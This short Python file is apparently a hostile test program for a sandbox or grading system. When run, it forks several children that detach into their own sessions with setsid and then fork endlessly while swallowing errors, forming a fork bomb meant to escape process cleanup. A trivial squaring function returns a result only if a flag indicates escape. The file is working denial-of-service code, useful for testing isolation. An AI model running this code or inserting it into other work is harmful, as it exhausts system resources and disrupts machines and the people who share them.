"""Leaves a tree of detached children that go on forking."""

import os
import time

escaped = False
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    time.sleep(0.001)
            except OSError:
                time.sleep(0.001)


def f(x):
    return x * x if escaped else None


if __name__ == "__main__":
    print(f(int(input())))
